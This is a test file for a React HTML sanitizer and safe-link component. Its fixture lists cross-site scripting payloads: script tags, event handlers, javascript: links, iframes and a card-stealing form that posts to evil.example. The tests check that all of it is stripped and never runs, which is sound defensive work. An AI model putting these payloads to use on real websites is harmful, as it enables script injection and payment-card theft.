import { fireEvent, render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { createMemoryRouter, RouterProvider } from 'react-router-dom';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SafeHtml } from './safe-html';
import { SafeLink } from '@portal/ui-light';
import { sanitizeHtml } from './sanitize-html';

const FLAG = '__hostileRan';
const flags = () => (window as unknown as Record<string, unknown>)[FLAG];

// What a hostile article body can carry: each line is one way to run code or take over the page.
const HOSTILE = `
<h1>Fake title</h1>
<p>Read this <a href="https://www.ncsc.gov.uk/collection/phishing-scams">advice</a> or ask the <a href="/panel/support-center">support centre</a>.</p>
<script>window.${FLAG} = 'script';</script>
<img src="x" onerror="window.${FLAG} = 'onerror'" alt="Your invoice">
<img src="javascript:window.${FLAG}='src'" alt="bad source">
<img src="data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%2F%3E" alt="A picture">
<a href="javascript:window.${FLAG} = 'href'">Verify your account</a>
<a href=" JaVaScRiPt:window.${FLAG} = 'href2'">Verify again</a>
<a href="/panel/invoices" target="_blank">Your invoices</a>
<iframe src="https://evil.example/pay"></iframe>
<form action="https://evil.example/steal"><input name="card"><button>Pay now</button></form>
<p style="position:fixed;inset:0" onclick="window.${FLAG} = 'onclick'">Click anywhere</p>
<svg onload="window.${FLAG} = 'svg'"><circle r="4"></circle></svg>
<math><mi xlink:href="javascript:window.${FLAG}='math'">x</mi></math>
<object data="https://evil.example/x.swf"></object>
<style>body { display: none }</style>
`;

function show(html: string) {
  const router = createMemoryRouter(
    [
      { path: '/panel/news/a', element: <SafeHtml html={html} label="Article" /> },
      { path: '/panel/support-center', element: <p>Support centre page</p> },
    ],
    { initialEntries: ['/panel/news/a'] },
  );
  render(<RouterProvider router={router} />);
  return { router, region: screen.getByRole('region', { name: 'Article' }) };
}

afterEach(() => {
  delete (window as unknown as Record<string, unknown>)[FLAG];
});

describe('SafeHtml', () => {
  it('keeps no script, handler, frame, form, style or javascript: link of a hostile body, and none of it runs', async () => {
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
    const { region } = show(HOSTILE);
    const html = region.innerHTML;
    for (const gone of [
      '<script',
      'onerror',
      'onclick',
      'onload',
      'javascript:',
      '<iframe',
      '<form',
      '<input',
      '<button',
      '<svg',
      '<math',
      '<object',
      '<style',
      'style="position',
      '<h1',
    ])
      expect(html.toLowerCase()).not.toContain(gone.toLowerCase());

    for (const image of region.querySelectorAll('img')) fireEvent.error(image);
    await userEvent.click(screen.getByText('Verify your account'));
    await userEvent.click(screen.getByText('Verify again'));
    await userEvent.click(screen.getByText('Click anywhere'));
    expect(flags()).toBeUndefined();
    expect(alert).not.toHaveBeenCalled();
    // The text of the dropped heading and of the neutralised links stays readable.
    expect(region).toHaveTextContent('Fake title');
    expect(region.querySelectorAll('a:not([href])')).toHaveLength(0);
  });

  it('shows a link stripped of its address as plain text: no link, nothing to focus', async () => {
    const { region } = show(HOSTILE);
    for (const text of ['Verify your account', 'Verify again']) {
      const stripped = screen.getByText(text);
      expect(stripped.closest('a')).toBeNull();
      expect(stripped.tagName).toBe('SPAN');
    }
    // Tabbing through the article reaches its real links and nothing else, then leaves it.
    const reached: string[] = [];
    for (let step = 0; step < 4; step += 1) {
      await userEvent.tab();
      reached.push(
        region.contains(document.activeElement) ? (document.activeElement?.textContent ?? '') : 'out',
      );
    }
    expect(reached).toEqual(['advice', 'support centre', 'Your invoices', 'out']);
  });

  it('shows the alt text of a picture whose address was refused as a caption, never a broken picture', () => {
    const { region } = show(HOSTILE);
    for (const alt of ['Your invoice', 'bad source']) {
      expect(screen.queryByAltText(alt)).toBeNull();
      expect(within(region).getByText(alt)).toBeVisible();
    }
    expect(screen.getByAltText('A picture')).toBeInTheDocument();
  });

  it('shows the alt text of a picture that fails to load instead of it', () => {
    show(
      `<p>Our campus:</p><img src="https://images.example/missing.png" alt="The campus garden" width="640" height="360">
<figure><img src="https://images.example/gone.png" alt="Boat party"><figcaption>Boat party</figcaption></figure>`,
    );
    const pictures = [screen.getByAltText('The campus garden'), screen.getByAltText('Boat party')];
    expect(screen.queryByText('The campus garden')).toBeNull();
    for (const picture of pictures) fireEvent.error(picture);
    expect(screen.queryByRole('img')).toBeNull();
    expect(screen.getByText('The campus garden')).toBeVisible();
    // A figure's own caption already says what the picture was: it is not said twice.
    expect(screen.getAllByText('Boat party')).toHaveLength(1);
  });

  it('shows tables and lists as they came', () => {
    const { region } = show(`<table>
  <tr><th scope="col">Exam</th><th scope="col">Fee</th></tr>
  <tr><td>B2 First</td><td>£195</td></tr>
</table>
<ol start="3"><li>Three</li></ol>`);
    expect(within(region).getByRole('columnheader', { name: 'Exam' })).toHaveAttribute('scope', 'col');
    expect(within(region).getByRole('cell', { name: '£195' })).toBeInTheDocument();
    expect(within(region).getByRole('list')).toHaveAttribute('start', '3');
  });

  it('opens outside links in a new tab without opener or referrer, and follows panel links in place', async () => {
    const { router, region } = show(HOSTILE);
    const outside = screen.getByRole('link', { name: 'advice' });
    expect(outside).toHaveAttribute('target', '_blank');
    expect(outside).toHaveAttribute('rel', 'noopener noreferrer');
    const invoices = screen.getByRole('link', { name: 'Your invoices' });
    expect(invoices).not.toHaveAttribute('target');
    expect(region.querySelectorAll('[target]')).toHaveLength(1);

    await userEvent.click(screen.getByRole('link', { name: 'support centre' }));
    expect(router.state.location.pathname).toBe('/panel/support-center');
    expect(await screen.findByText('Support centre page')).toBeInTheDocument();
  });

  it('loads images lazily and drops sources that are not http(s) or data images', () => {
    const { region } = show(HOSTILE);
    const images = [...region.querySelectorAll('img')];
    expect(images.every((image) => image.getAttribute('loading') === 'lazy')).toBe(true);
    expect(screen.queryByAltText('bad source')).toBeNull();
    expect(screen.getByAltText('A picture').getAttribute('src')).toMatch(/^data:image\/svg\+xml,/);
  });

  it('leaves plain markup as it is', () => {
    expect(sanitizeHtml('<p>Hello <strong>Ana</strong></p><ul><li>One</li></ul>')).toBe(
      '<p>Hello <strong>Ana</strong></p><ul><li>One</li></ul>',
    );
  });
});

describe('SafeLink', () => {
  function link(href: string | null) {
    const router = createMemoryRouter(
      [
        {
          path: '/',
          element: (
            <SafeLink href={href} fallback={<span>no link</span>}>
              Open
            </SafeLink>
          ),
        },
      ],
      { initialEntries: ['/'] },
    );
    render(<RouterProvider router={router} />);
  }

  it('routes panel paths in place and opens https in a new tab', () => {
    link('/panel/events');
    expect(screen.getByRole('link', { name: 'Open' })).toHaveAttribute('href', '/panel/events');
    expect(screen.getByRole('link', { name: 'Open' })).not.toHaveAttribute('target');
  });

  it('opens https in a new tab without opener or referrer', () => {
    link('https://tfl.gov.uk/plan-a-journey/');
    const outside = screen.getByRole('link', { name: /Open/ });
    expect(outside).toHaveAttribute('target', '_blank');
    expect(outside).toHaveAttribute('rel', 'noopener noreferrer');
    expect(outside).toHaveAccessibleName('Open (opens in a new tab)');
  });

  it.each(['javascript:alert(1)', 'http://survey.example', '//evil.example', null])('drops %j', (href) => {
    link(href);
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
    expect(screen.getByText('no link')).toBeInTheDocument();
  });
});
